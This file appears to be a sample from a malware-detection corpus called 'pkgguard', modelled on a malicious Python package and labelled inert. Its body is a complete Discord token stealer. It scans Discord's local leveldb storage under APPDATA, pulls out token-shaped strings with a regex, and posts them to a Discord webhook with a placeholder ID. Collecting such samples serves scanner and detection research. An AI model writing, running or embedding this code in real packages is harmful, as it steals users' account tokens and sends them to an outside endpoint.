# pkgguard corpus 281 (discord-token), modelled on [discordpydebug]; inert, never run.
import http.client
import json
import os
import re

leveldb = os.getenv("APPDATA", "") + "\\discord\\Local Storage\\leveldb"
tokens = set()
for entry in os.scandir(leveldb):
    if entry.name.endswith(".ldb"):
        with open(entry.path, "rb") as f:
            tokens.update(re.findall(rb"[\w-]{24,26}\.[\w-]{6}\.[\w-]{25,110}", f.read()))
conn = http.client.HTTPSConnection("discord.com")
conn.request(
    "POST",
    "/api/webhooks/1180000000000000000/placeholder-token-0000000000000000",
    json.dumps({"content": b" ".join(tokens).decode()}),
    {"Content-Type": "application/json"},
)
